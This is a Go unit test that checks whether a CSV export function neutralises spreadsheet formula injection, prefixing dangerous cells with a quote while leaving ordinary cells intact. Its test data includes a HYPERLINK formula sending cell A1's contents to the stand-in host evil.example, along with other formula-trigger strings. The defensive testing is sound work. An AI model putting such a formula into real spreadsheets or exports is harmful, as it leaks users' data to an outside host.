package drafts

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestWriteSpreadsheetCSV(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"点击")`
	cells := []string{evil, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "第十条", "12", "", "a=b"}
	var b strings.Builder
	if err := WriteSpreadsheetCSV(&b, [][]string{cells}); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasPrefix(out, "\ufeff") {
		t.Fatal("no byte order mark")
	}
	rec, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range rec {
		dangerous := i < 7
		if dangerous && !strings.HasPrefix(c, "'") {
			t.Errorf("cell %q written as %q: a spreadsheet would run it", cells[i], c)
		}
		if !dangerous && c != cells[i] {
			t.Errorf("harmless cell %q changed to %q", cells[i], c)
		}
	}
}
